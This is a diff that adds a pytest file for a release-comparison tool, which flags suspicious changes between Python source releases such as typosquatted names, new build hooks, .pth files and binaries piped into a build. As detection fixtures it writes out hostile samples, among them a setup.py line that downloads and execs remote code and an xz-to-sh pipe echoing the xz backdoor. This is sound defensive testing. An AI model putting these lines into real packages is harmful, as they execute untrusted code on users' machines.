@@ -1,0 +1,465 @@
+"""What changes in what a release states: who, what it needs, what it runs."""
+
+from __future__ import annotations
+
+import pytest
+
+from diffoscope_sdist.comparators.analysis.archive.alerts import (
+    Alert,
+    AlertKind,
+)
+from diffoscope_sdist.comparators.analysis.findings.search import search
+from tests.comparators.analysis.findings.cases import found, lines, releases
+
+
+def pkg_info(version: str = "1.0", *fields: str, name: str = "pkg") -> bytes:
+    head = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
+    return (head + "".join(f"{field}\n" for field in fields)).encode()
+
+
+def stated(
+    old: tuple[str, ...], new: tuple[str, ...], version: str = "1.1"
+) -> list[str]:
+    return lines(
+        {"PKG-INFO": pkg_info("1.0", *old)},
+        {"PKG-INFO": pkg_info(version, *new)},
+    )
+
+
+FIELDS: dict[str, tuple[tuple[str, ...], tuple[str, ...], list[str]]] = {
+    "another address": (
+        ("Author-email: A <a@a.org>",),
+        ("Author-email: A <b@b.org>",),
+        ["review author-changed mail: a@a.org → b@b.org"],
+    ),
+    "another maintainer": (
+        ("Author: A", "Author-email: a@a.org"),
+        ("Author: A", "Author-email: a@a.org", "Maintainer: M"),
+        ["review author-changed name: added: M"],
+    ),
+    "a name that moved beside its address": (
+        ("Author: A", "Author-email: a@a.org"),
+        ("Author-email: A <a@a.org>",),
+        [],
+    ),
+    "another host": (
+        ("Home-page: https://a.org/pkg",),
+        ("Home-page: https://b.org/pkg",),
+        [
+            "review url-changed Home-page: https://a.org/pkg → "
+            "https://b.org/pkg"
+        ],
+    ),
+    "another owner on a forge": (
+        ("Project-URL: Source, https://github.com/a/pkg",),
+        ("Project-URL: Source, https://github.com/b/pkg",),
+        [
+            "review url-changed Source: https://github.com/a/pkg → "
+            "https://github.com/b/pkg"
+        ],
+    ),
+    "another path": (
+        ("Home-page: https://a.org/pkg",),
+        ("Home-page: https://a.org/new",),
+        ["note url-changed Home-page: https://a.org/pkg → https://a.org/new"],
+    ),
+    "another label": (
+        ("Home-page: https://a.org/pkg",),
+        ("Project-URL: Homepage, https://a.org/pkg/",),
+        [],
+    ),
+    "another license": (
+        ("License: MIT",),
+        ("License: Proprietary",),
+        ["note license-metadata MIT → Proprietary"],
+    ),
+    "a new requirement": (
+        ("Requires-Dist: a",),
+        ("Requires-Dist: a", "Requires-Dist: b>=1"),
+        ["review new-dependency b>=1"],
+    ),
+    "a requirement in another spelling": (
+        ("Requires-Dist: a_b (>=1)",),
+        ("Requires-Dist: A-b>=1",),
+        [],
+    ),
+    "a requirement that is gone": (
+        ("Requires-Dist: a", "Requires-Dist: b"),
+        ("Requires-Dist: a",),
+        ["note removed-dependency b"],
+    ),
+    "a bound that is gone": (
+        ("Requires-Dist: a<2,>=1",),
+        ("Requires-Dist: a>=1",),
+        ["note loosened-dependency a: <2,>=1 → >=1"],
+    ),
+    "a bound that came": (
+        ("Requires-Dist: a>=1",),
+        ("Requires-Dist: a<2,>=1",),
+        [],
+    ),
+    "an address": (
+        ("Requires-Dist: a",),
+        ("Requires-Dist: a @ https://a.org/a.zip",),
+        ["alert direct-url a @ https://a.org/a.zip"],
+    ),
+    "another Python": (
+        ("Requires-Python: >=3.7",),
+        ("Requires-Python: >= 3.8",),
+        ["note python-requirement >=3.7 → >=3.8"],
+    ),
+    "the same Python": (
+        ("Requires-Python: >=3.7",),
+        ("Requires-Python: >= 3.7",),
+        [],
+    ),
+    "an extra": (
+        ("Provides-Extra: x", 'Requires-Dist: a; extra == "x"'),
+        (
+            "Provides-Extra: x",
+            'Requires-Dist: a; extra == "x"',
+            'Requires-Dist: b; extra == "x"',
+        ),
+        ["note extra-changed x: newly requires b"],
+    ),
+}
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "expected"), FIELDS.values(), ids=FIELDS
+)
+def test_fields(
+    old: tuple[str, ...], new: tuple[str, ...], expected: list[str]
+) -> None:
+    assert stated(old, new) == expected
+    assert stated(new, new) == []
+
+
+def test_a_new_requirement_of_a_correction_is_an_alert() -> None:
+    assert stated((), ("Requires-Dist: b",), "1.0.1") == [
+        "alert new-dependency b"
+    ]
+
+
+def test_another_name() -> None:
+    old = {"PKG-INFO": pkg_info(name="colorama")}
+    new = {"PKG-INFO": pkg_info("1.1", name="colourama")}
+    assert lines(old, new) == ["alert name-changed colorama → colourama"]
+    assert lines(old, {"PKG-INFO": pkg_info("1.1", name="Colorama")}) == []
+
+
+def test_the_same_version_with_other_content() -> None:
+    old = {"PKG-INFO": pkg_info(), "a.txt": b"1"}
+    new = {"PKG-INFO": pkg_info(), "a.txt": b"2"}
+    assert lines(old, new) == [
+        "review same-version 1.0, and 1 member changed, added or removed"
+    ]
+    assert lines(old, old) == []
+
+
+def test_an_older_version() -> None:
+    old = {"PKG-INFO": pkg_info("2.0")}
+    new = {"PKG-INFO": pkg_info("1.0")}
+    assert lines(old, new) == ["review downgrade 2.0 → 1.0"]
+
+
+def test_a_contradiction() -> None:
+    both = releases({"PKG-INFO": pkg_info()}, {"PKG-INFO": pkg_info("1.1")})
+    sentence = "another version in setup.py"
+    odd = both.new._replace(contradictions=(sentence,))
+    codes = [
+        (each.code.value, each.sentence)
+        for each in search(both._replace(new=odd)).findings
+    ]
+    assert codes == [("version-contradiction", sentence)]
+    old = both.old._replace(contradictions=("another",))
+    assert search(both._replace(old=old, new=odd)).findings == ()
+
+
+@pytest.mark.parametrize(
+    ("path", "expected"),
+    [
+        ("LICENSE", ["review license-text LICENSE changed"]),
+        ("a/_vendor/LICENSE", ["note license-text a/_vendor/LICENSE changed"]),
+        ("license.py", []),
+    ],
+)
+def test_a_license_text(path: str, expected: list[str]) -> None:
+    old, new = {path: b"do what\nyou want\n"}, {path: b"do not\nyou want\n"}
+    assert lines(old, new) == expected
+    assert lines(new, new) == []
+
+
+def test_a_year_in_a_license_is_a_note() -> None:
+    old, new = {"LICENSE": b"(c) 2023 A\n"}, {"LICENSE": b"(c) 2024 A\n"}
+    assert lines(old, new) == [
+        "note license-text LICENSE changed, nothing but numbers"
+    ]
+
+
+@pytest.mark.parametrize(
+    ("path", "new", "expected"),
+    [
+        (
+            "requirements.txt",
+            "--extra-index-url https://a.org/simple\n",
+            ["--extra-index-url https://a.org/simple"],
+        ),
+        (
+            "pkg.egg-info/dependency_links.txt",
+            "https://a.org/a.zip\n",
+            ["https://a.org/a.zip"],
+        ),
+        ("requirements.txt", "a\n# --index-url is not set\n", []),
+        ("docs/requirements.txt", "-i https://a.org\n", []),
+    ],
+    ids=["index", "link", "comment", "docs"],
+)
+def test_another_place_to_look(
+    path: str, new: str, expected: list[str]
+) -> None:
+    links = lines({path: b"a\n"}, {path: new.encode()}, "dependency-link")
+    assert links == [f"alert dependency-link {path}: {e}" for e in expected]
+    both = {path: new.encode()}
+    assert lines(both, both) == []
+
+
+def points(group: str, *entries: str) -> bytes:
+    lines = "".join(f"{entry}\n" for entry in entries)
+    return f"[{group}]\n{lines}".encode()
+
+
+POINTS = {
+    "a command": (
+        "console_scripts",
+        "run = pkg:main",
+        ["review new-command run = pkg:main"],
+    ),
+    "a known tool": (
+        "console_scripts",
+        "pip = pkg:main",
+        ["alert new-command pip = pkg:main, in place of the known tool pip"],
+    ),
+    "a plugin of pytest": (
+        "pytest11",
+        "p = pkg.plugin",
+        ["review pytest-plugin p = pkg.plugin"],
+    ),
+    "a plugin of setuptools": (
+        "distutils.commands",
+        "p = pkg.plugin:P",
+        [
+            "review autoloaded-plugin p = pkg.plugin:P, by setuptools, in "
+            "every build"
+        ],
+    ),
+    "a plugin of anything": (
+        "pkg.things",
+        "p = pkg.plugin",
+        ["note new-command [pkg.things] p = pkg.plugin"],
+    ),
+}
+
+
+@pytest.mark.parametrize(
+    ("group", "entry", "expected"), POINTS.values(), ids=POINTS
+)
+def test_entry_points(group: str, entry: str, expected: list[str]) -> None:
+    old = {"PKG-INFO": pkg_info()}
+    new = {
+        "PKG-INFO": pkg_info("1.1"),
+        "pkg.egg-info/entry_points.txt": points(group, entry),
+    }
+    assert lines(old, new) == expected
+    assert lines(new, new | {"README": b""}, "new-command") == []
+
+
+def test_a_command_that_does_something_else() -> None:
+    path = "pkg.egg-info/entry_points.txt"
+    old = {path: points("console_scripts", "run = pkg:main")}
+    new = {path: points("console_scripts", "run = pkg:other")}
+    assert lines(old, new) == ["review new-command run = pkg:main → pkg:other"]
+
+
+def test_a_command_that_moved_to_another_file_is_none() -> None:
+    old = {
+        "setup.cfg": b"[metadata]\nname = pkg\n[options.entry_points]\n"
+        b"console_scripts =\n    run = pkg:main\n"
+    }
+    new = {
+        "pyproject.toml": b'[project]\nname = "pkg"\n[project.scripts]\n'
+        b'run = "pkg:main"\n'
+    }
+    assert lines(old, new, "new-command") == []
+
+
+def build(text: str) -> bytes:
+    return f"[build-system]\n{text}\n".encode()
+
+
+BUILDS = {
+    "another backend": (
+        build('build-backend = "hatchling.build"'),
+        build('build-backend = "own.backend"'),
+        ["review build backend hatchling.build → own.backend"],
+    ),
+    "the usual backend": (
+        b"",
+        build('build-backend = "setuptools.build_meta"'),
+        [],
+    ),
+    "a path of the backend": (
+        build('build-backend = "setuptools.build_meta"'),
+        build('build-backend = "setuptools.build_meta"\nbackend-path = ["b"]'),
+        ["review the build backend is imported from b/ of the archive"],
+    ),
+    "an unusual requirement": (
+        build('requires = ["setuptools"]'),
+        build('requires = ["setuptools", "evil"]'),
+        ["review newly required to build: evil"],
+    ),
+    "a usual requirement": (
+        build('requires = ["setuptools"]'),
+        build('requires = ["setuptools", "wheel"]'),
+        ["note newly required to build: wheel"],
+    ),
+    "a hook": (
+        b"",
+        b'[tool.hatch.build.hooks.custom]\npath = "hook.py"\n',
+        ["review pyproject.toml: tool.hatch.build.hooks.custom = hook.py"],
+    ),
+    "a script": (
+        b"",
+        b'[tool.poetry.build]\nscript = "build.py"\n',
+        ["review pyproject.toml: tool.poetry.build.script = build.py"],
+    ),
+}
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "expected"), BUILDS.values(), ids=BUILDS
+)
+def test_builds(old: bytes, new: bytes, expected: list[str]) -> None:
+    head = b'[project]\nname = "p"\nversion = "%s"\n'
+    result = [
+        f"{each.severity.value} {each.sentence}"
+        for each in found(
+            {"pyproject.toml": head % b"1.0" + old},
+            {"pyproject.toml": head % b"1.1" + new},
+        )
+        if each.code.value == "runs-at-build"
+    ]
+    assert result == expected
+
+
+SCRIPTS = {
+    "what is downloaded and executed": (
+        "from urllib.request import urlopen\n"
+        "exec(urlopen('http://a.org').read())\n",
+        [
+            "alert setup.py:5 builtins.exec executes what was downloaded",
+            "alert setup.py:5 calls builtins.exec, urllib.request.urlopen "
+            "(line 5)",
+        ],
+    ),
+    "a program": (
+        "import subprocess\nsubprocess.run(['make'])\n",
+        ["review setup.py:5 calls subprocess.run"],
+    ),
+    "a command of its own": (
+        "setup(cmdclass={'install': Install})\n",
+        ["review setup.py:4 newly has cmdclass"],
+    ),
+    "another call": ("prepare()\n", ["note setup.py:4 newly calls prepare"]),
+    "values": ("v = open('v').read().strip()\nx = {'a': [1, 2]}\n", []),
+}
+
+
+@pytest.mark.parametrize(("new", "expected"), SCRIPTS.values(), ids=SCRIPTS)
+def test_setup_scripts(new: str, expected: list[str]) -> None:
+    old = "from setuptools import setup\n\nsetup(name='p')\n"
+    result = lines(
+        {"setup.py": old.encode()},
+        {"setup.py": (old + new).encode()},
+    )
+    assert result == [
+        line.replace(" ", " runs-at-build ", 1) for line in expected
+    ]
+    both = {"setup.py": (old + new).encode()}
+    assert lines(both, both | {"README": b""}) == []
+
+
+def test_files_that_run_at_start() -> None:
+    assert lines({}, {"a.pth": b"import os; os.getpid()\n"}) == [
+        "alert runs-at-start a.pth added: 1 new line, runs import os; "
+        "os.getpid()"
+    ]
+    assert lines({}, {"src/sitecustomize.py": b"x = 1\n"}) == [
+        "alert runs-at-start src/sitecustomize.py added"
+    ]
+    assert lines({}, {"a.pth": b"src\n"}) == [
+        "review runs-at-start a.pth added: 1 new line, directories to import "
+        "from"
+    ]
+    assert lines({"a.pth": b"import a\n"}, {"b.pth": b"import a\n"}) == []
+
+
+def test_a_build_that_reads_an_opaque_file() -> None:
+    script = b"AC_INIT\nxz -dc tests/files/bad-3-corrupt_lzma2.xz | sh\n"
+    old = {"configure.ac": b"AC_INIT\n"}
+    new = {
+        "configure.ac": script,
+        "tests/files/bad-3-corrupt_lzma2.xz": b"\xfd7zXZ\0" + bytes(80),
+    }
+    assert lines(old, new, "build-reads-binary") == [
+        "alert build-reads-binary configure.ac:2 reads "
+        "tests/files/bad-3-corrupt_lzma2.xz, which is opaque and new or "
+        "changed"
+    ]
+    assert (
+        lines(
+            old, new | {"configure.ac": b"AC_INIT\n\n"}, "build-reads-binary"
+        )
+        == []
+    )
+    assert lines(new, new, "build-reads-binary") == []
+
+
+def test_a_generated_file_without_its_source() -> None:
+    old = {"a.c": b"/* Generated by Cython 3.0.1 */\n1", "a.pyx": b"x"}
+    new = {"a.c": b"/* Generated by Cython 3.0.2 */\n2", "a.pyx": b"x"}
+    assert lines(old, new) == [
+        "review generated-without-source a.c changed, and a.pyx did not "
+        "(Cython 3.0.1 → 3.0.2)"
+    ]
+    assert lines(old, new | {"a.pyx": b"y"}) == []
+
+
+def test_a_file_that_is_not_listed() -> None:
+    path = "p.egg-info/SOURCES.txt"
+    old = {path: b"a.py\n", "a.py": b"x"}
+    assert lines(old, old | {"b.txt": b"y"}) == [
+        "note unlisted-in-sources not in SOURCES.txt: b.txt"
+    ]
+    assert (
+        lines(old, {path: b"a.py\nb.txt\n", "a.py": b"x", "b.txt": b""}) == []
+    )
+
+
+@pytest.mark.parametrize(
+    ("kind", "code"),
+    [
+        (AlertKind.READERS_DISAGREE, "readers-disagree"),
+        (AlertKind.POLYGLOT, "polyglot"),
+        (AlertKind.TRAILING_DATA, "trailing-data"),
+        (AlertKind.WRITTEN_THROUGH_LINK, "new-link"),
+    ],
+)
+def test_what_is_odd_about_an_archive(kind: AlertKind, code: str) -> None:
+    both = releases({}, {})
+    odd = both.new._replace(alerts=(Alert(kind, "pkg-1.1/a", "so"),))
+    [only] = search(both._replace(new=odd)).findings
+    assert (only.severity.value, only.code.value) == ("alert", code)
+    assert only.sentence == f"a: {kind.value} so"
+    old = both.old._replace(alerts=(Alert(kind, "pkg-1.0/a", "else"),))
+    assert search(both._replace(old=old, new=odd)).findings == ()
